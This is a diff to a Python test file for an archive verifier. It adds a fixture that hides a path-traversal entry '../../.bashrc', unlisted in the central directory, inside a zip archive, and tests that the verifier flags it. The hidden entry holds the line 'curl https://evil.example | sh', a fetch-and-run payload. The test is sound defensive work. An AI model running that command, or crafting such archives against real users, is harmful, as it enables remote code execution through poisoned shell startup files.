@@ -19,6 +19,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
+from stream_unzip import stream_unzip
 
 from services.archivetools import verify
 from services.archivetools.documents import CHUNK
@@ -307,6 +308,43 @@ def test_overlapping_members_a_zip_bomb_are_refused_before_any_is_expanded(
     assert "media/0.bin: its data runs into media/1.bin (members overlap, as in a zip bomb)" in report.problems, \
         report.text()
     assert streamed == [], f"expanded {len(streamed)} members of an archive whose members overlap"
+
+
+def hidden(src: Path, dst: Path, before: str | None) -> Path:
+    """``src`` rewritten with one more local entry, ``../../.bashrc``, just before member ``before``
+    (None: after the last, before the central directory), that the central directory does not list:
+    every offset right, every listed checksum right."""
+    with zipfile.ZipFile(src) as zin:
+        data = {i.filename: zin.read(i) for i in zin.infolist()}
+    with zipfile.ZipFile(dst, "w", zipfile.ZIP_DEFLATED) as zout:
+        for name, raw in [*data.items(), (None, b"")]:
+            if name == before:
+                zout.writestr("../../.bashrc", b"curl https://evil.example | sh\n")
+            if name is not None:
+                zout.writestr(name, raw)
+        zout.filelist = [i for i in zout.filelist if i.filename != "../../.bashrc"]
+        del zout.NameToInfo["../../.bashrc"]
+    return dst
+
+
+@pytest.mark.parametrize("before", ["README.md", "media/b.jpg", None])
+def test_a_member_the_central_directory_does_not_list_is_a_problem(tmp_path: Path, before: str | None) -> None:
+    """Seen: an archive with one more local entry than its central directory lists (before the first
+    member, between two, or before the directory) said "archive OK": zipfile reads the directory and
+    never sees it, but a streaming reader, which the archives are made for (stream-unzip), walks the
+    local headers and extracts it, here as ../../.bashrc. Only a data descriptor may lie between
+    members; any other byte is named."""
+    path = hidden(rewrite(write(tmp_path, sources()), tmp_path / "plain.zip"), tmp_path / "hidden.zip", before)
+    streamed = [name for name, _, chunks in stream_unzip([path.read_bytes()]) if not any(False for _ in chunks)]
+    assert b"../../.bashrc" in streamed  # what a streaming reader finds
+    with zipfile.ZipFile(path) as zf:
+        assert "../../.bashrc" not in zf.namelist()  # and what zipfile, so verify, does not
+    report = verify_archive(path)
+    assert not report.ok, report.text()
+    where = "before its first member" if before == "README.md" else \
+        "before media/b.jpg" if before == "media/b.jpg" else "before the central directory"
+    assert any(p.endswith(f"bytes {where} that the central directory does not account for (a streaming reader "
+                          "would read them as members it does not list)") for p in report.problems), report.problems
 
 
 def test_a_truncated_archive_is_walked_in_bounded_memory(tmp_path: Path) -> None:
